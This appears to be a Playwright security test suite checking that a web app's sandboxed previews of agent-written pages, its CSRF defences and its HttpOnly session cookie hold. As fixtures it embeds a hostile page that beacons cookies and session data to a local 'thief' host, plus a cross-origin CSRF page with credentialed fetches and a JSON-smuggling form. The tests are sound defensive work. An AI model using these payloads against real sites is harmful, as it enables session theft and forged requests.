// What agents wrote and what other pages send can neither act nor read in our name.
import type { Page, Request } from 'playwright-core';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { theater } from './support/bakery';
import { house } from './support/house';
import type { Server } from './support/server';
import { Stage } from './support/stage';
import { thief, type Thief } from './support/thief';

const { project: aProject, serve, visit } = house();
let other: Thief;
beforeEach(async () => {
  other = await thief();
});
afterEach(() => other.close());

/** The browser says aloud what it has stopped. */
const STOPPED = /sandbox|Content Security Policy|Refused|Blocked|blocked|denied|40[0-9]|CORS|ERR_FAILED|ERR_BLOCKED/;

/** A page that tries whatever a script, a form, a picture or a header could do. */
const hostile = (thief: string): string => `<!doctype html><html lang="en"><head><title>Bread</title>
<meta http-equiv="refresh" content="0; url=${thief}/refresh">
<link rel="stylesheet" href="${thief}/style.css">
<script src="${thief}/script.js"></script>
<script>
  document.documentElement.dataset.ran = 'yes';
  const tell = (what) => { new Image().src = '${thief}/loot?' + encodeURIComponent(what); };
  try { tell('cookie ' + document.cookie); } catch (e) { tell('cookie no'); }
  try { tell('parent ' + parent.document.body.innerText.length); } catch (e) { tell('parent no'); }
  fetch('/api/session').then((r) => r.text()).then(tell, () => tell('fetch no'));
  try { top.location.href = '${thief}/top'; } catch (e) { tell('top no'); }
  try { open('${thief}/popup'); } catch (e) {}
</script></head><body onload="document.forms[0].submit()"><h1>Bread</h1>
<img src="${thief}/picture.png" alt="" onerror="document.documentElement.dataset.ran = 'yes'">
<iframe src="/api/session" title="inside"></iframe>
<form method="post" action="/api/session"><button autofocus>Order</button></form>
<p>This is all.</p></body></html>`;

/** A theater whose only round ships this page. */
async function shipped(html: string): Promise<{ server: Server; run: string }> {
  const project = aProject();
  theater(project, 'single', 'play');
  const judges = ['critic', 'brand', 'a11y', 'copy'].map((role) => `<PANELIST role="${role}" score="9"></PANELIST>`);
  project.play('play', {
    perform: [
      '<CRITIQUE_RUN version="1"><ROUND n="1"><PANELIST role="designer"><ARTIFACT mime="text/html"><![CDATA[',
      `${html}]]></ARTIFACT></PANELIST>`,
      ...judges,
      '<ROUND_END n="1" decision="ship"></ROUND_END></ROUND><SHIP round="1" composite="9"><SUMMARY>Done.</SUMMARY></SHIP></CRITIQUE_RUN>',
    ].join('\n'),
  });
  const server = await serve(project);
  const run = await server.begin();
  expect((await server.closed(run)).status).toBe('shipped');
  return { server, run };
}

/** What a tab asked for and was answered, from now on: what the browser stopped was never sent. */
function sent(page: Page): Request[] {
  const all: Request[] = [];
  page.on('response', (response) => all.push(response.request()));
  return all;
}

/** Gives whatever might still come the time to come: another page is asked for and shown after it. */
async function settle(page: Page, server: Server): Promise<void> {
  const tab = await page.context().newPage();
  await tab.goto(server.address);
  await tab.locator('header.top').waitFor();
  await tab.waitForLoadState('networkidle');
  await tab.close();
}

describe('a page that an agent wrote', () => {
  test('does harm where nothing stops it, so that the tests below mean something', async () => {
    const project = aProject();
    theater(project, 'seats', 'play');
    const page = await visit(await serve(project), { may: /./ });
    other.page('/hostile', hostile(`http://127.0.0.1:${other.port}`));
    // It goes elsewhere before it is loaded.
    await page.goto(`http://127.0.0.1:${other.port}/hostile`, { waitUntil: 'commit' });
    await expect.poll(() => other.loot).toEqual(
      expect.arrayContaining(['/style.css', '/script.js', '/picture.png', '/api/session', '/top', expect.stringMatching(/^\/loot\?cookie/)]),
    );
  });

  test('does nothing in its frame on the stage', async () => {
    const { server, run } = await shipped(hostile(`http://127.0.0.1:${other.port}`));
    const page = await visit(server, { may: STOPPED });
    const all = sent(page);
    await Stage.open(page, server, run);
    await page.frameLocator('.preview iframe').getByText('This is all.').waitFor();
    await settle(page, server);

    expect(await page.locator('.preview iframe').getAttribute('sandbox')).toBe('');
    expect(await page.frameLocator('.preview iframe').locator('html').getAttribute('data-ran'), 'no script ran').toBeNull();
    const asked = all.filter((request) => request.frame() !== page.mainFrame());
    expect(asked.map((request) => new URL(request.url()).pathname)).toEqual([server.at(`runs/${run}/rounds/1/preview`)]);
    expect(page.url(), 'we are still where we were').toBe(`${server.address}/#/runs/${run}`);
    expect(page.context().pages()).toHaveLength(1);
    expect(other.loot).toEqual([]);
  });

  test('does nothing as a document of its own', async () => {
    const { server, run } = await shipped(hostile(`http://127.0.0.1:${other.port}`));
    const page = await visit(server, { may: STOPPED });
    await page.waitForLoadState('networkidle').catch(() => undefined);
    for (const round of ['1', 'shipped']) {
      await page.goto('about:blank');
      const all = sent(page);
      const answer = await page.goto(`${server.address}${server.at(`runs/${run}/rounds/${round}/preview`)}`);
      expect(answer?.headers()['content-security-policy']).toMatch(/^sandbox; default-src 'none'/);
      await page.getByText('This is all.').waitFor();
      await settle(page, server);
      expect(await page.locator('html').getAttribute('data-ran'), 'no script ran').toBeNull();
      const asked = all.map((request) => new URL(request.url()).pathname).filter((path) => path !== '/favicon.ico');
      expect(asked).toEqual([server.at(`runs/${run}/rounds/${round}/preview`)]);
    }
    expect(page.context().pages()).toHaveLength(1);
    expect(other.loot).toEqual([]);
  });

  test('is text wherever it is not in a frame', async () => {
    const { server, run } = await shipped(hostile(`http://127.0.0.1:${other.port}`));
    const page = await visit(server, { may: STOPPED });
    for (const rest of [`runs/${run}/rounds/1/artifact`, `runs/${run}/cues`]) {
      const answer = await page.goto(`${server.address}${server.at(rest)}`).catch(() => null);
      // NDJSON is saved, not shown; text is shown as text.
      if (answer) expect(answer.headers()['content-type']).toMatch(/^text\/plain/);
      expect(await page.locator('h1').count()).toBe(0);
    }
    expect(other.loot).toEqual([]);
  });
});

describe('a page of somebody else', () => {
  /** What it sends: as a script would, as a form would, and as a script that asks for nothing special. */
  const attack = (target: string, runs: string): string => `<!doctype html><title>Elsewhere</title>
<form id="form" method="post" enctype="text/plain" action="${target}${runs}" target="away">
<input name='{"brief":"stolen","assets":[],"source":null,"x":"' value='"}'></form><iframe name="away"></iframe>
<iframe name="page" src="${target}/"></iframe>
<script>
window.results = (async () => {
  const body = JSON.stringify({ brief: 'stolen', assets: [], source: null });
  const send = (init) => fetch('${target}${runs}', { method: 'POST', credentials: 'include', body, ...init }).then((r) => r.type + ' ' + r.status, () => 'refused');
  const results = [
    await send({ headers: { 'content-type': 'application/json', 'idempotency-key': crypto.randomUUID?.() ?? '1' } }),
    await send({ mode: 'no-cors', headers: { 'content-type': 'text/plain' } }),
    await fetch('${target}/api/session', { credentials: 'include' }).then((r) => r.text(), () => 'refused'),
  ];
  const source = new EventSource('${target}${runs.replace(/runs$/, 'events')}', { withCredentials: true });
  results.push(await new Promise((done) => { source.onerror = () => done('refused'); source.onopen = () => done('open'); }));
  source.close();
  document.getElementById('form').submit();
  return results;
})();
</script>`;

  // The same machine by another port shares our cookies, and by another name it does not; neither may anything.
  test.each([
    ['another port', '127.0.0.1', '127.0.0.1', true],
    ['another name', 'localhost', '127.0.0.1', false],
    ['another port, our other name', '127.0.0.1', 'localhost', false],
  ])('%s: changes nothing and reads nothing', async (_, from, to, hasCookie) => {
    const project = aProject();
    theater(project, 'seats', 'play');
    const server = await serve(project);
    const page = await visit(server, { may: STOPPED });
    const target = `http://${to}:${server.port}`;
    other.page('/attack', attack(target, server.at('runs')));
    const statuses: number[] = [];
    page.on('response', (response) => {
      if (response.request().method() === 'POST') statuses.push(response.status());
    });
    const formSent = page.waitForResponse((response) => response.request().method() === 'POST' && response.request().isNavigationRequest());
    await page.goto(`http://${from}:${other.port}/attack`);
    const results = await page.evaluate<string[]>('window.results');
    const [asJson, asText, session, events] = results;
    expect([asJson, session, events]).toEqual(['refused', 'refused', 'refused']);
    expect(['refused', 'opaque 0'], 'what was sent cannot be seen').toContain(asText);
    const form = await formSent;
    expect('cookie' in (await form.request().allHeaders()), 'whether the browser would have signed it for us').toBe(hasCookie);
    expect(form.status()).toBe(403);
    for (const status of statuses) expect(status).toBe(403);
    expect(page.frame({ name: 'page' })?.url() ?? '', 'nobody frames us').not.toBe(`${target}/`);
    expect(await server.runs(), 'nothing happened').toEqual([]);
  });
});

test('the token is nowhere that a script could find it', async () => {
  const project = aProject();
  theater(project, 'seats', 'play');
  const server = await serve(project);
  const page = await visit(server);
  await page.getByText('No runs yet').waitFor();
  const found = await page.evaluate(() => ({
    cookie: document.cookie,
    address: location.href,
    referrer: document.referrer,
    document: document.documentElement.outerHTML,
    local: JSON.stringify(localStorage),
    session: JSON.stringify(sessionStorage),
    state: JSON.stringify(history.state),
    timing: JSON.stringify(performance.getEntries()),
  }));
  for (const [place, text] of Object.entries(found)) expect(text, place).not.toContain(server.token);
  expect(found.cookie).toBe('');
  const [cookie] = await page.context().cookies();
  expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict', value: server.token });

  const stranger = await page.context().browser()?.newPage();
  await stranger?.goto(server.address);
  await stranger?.getByRole('heading', { name: 'This browser is not signed in' }).waitFor();
  await stranger?.close();
});
